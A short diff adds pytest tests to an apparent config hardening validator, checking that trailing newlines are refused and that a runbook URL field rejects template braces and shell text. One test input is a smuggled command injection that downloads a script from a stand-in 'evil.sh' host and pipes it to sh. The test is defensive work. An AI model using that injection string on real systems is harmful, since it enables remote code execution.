@@ -177,3 +177,19 @@ def test_render_keeps_previous_output_when_config_is_invalid(tmp_path: Path) -> 
     (out / "marker").write_text("previous render")
     assert render("dev", out, {"appReplicas": "0"}, stream=io.StringIO()) == 2
     assert (out / "marker").read_text() == "previous render"
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("storageClass", "fast\n"), ("team", "web\n"), ("runbookBaseUrl", "https://x/docs\n"), ("lokiRetention", "7d\n")],
+)
+def test_a_trailing_newline_is_refused(key: str, value: str) -> None:
+    """``$`` matches before a final newline: every pattern is a full match."""
+    (problem,) = problems_for(**{key: value})
+    assert problem.startswith(f"hardening:{key}: {value!r} is invalid")
+
+
+@pytest.mark.parametrize("value", ["https://x/{{.Broken", 'https://a";curl${IFS}evil.sh|sh;"', "https://x/docs/"])
+def test_runbook_url_accepts_no_template_or_shell_text(value: str) -> None:
+    (problem,) = problems_for(runbookBaseUrl=value)
+    assert "hardening:runbookBaseUrl" in problem and "template braces" in problem
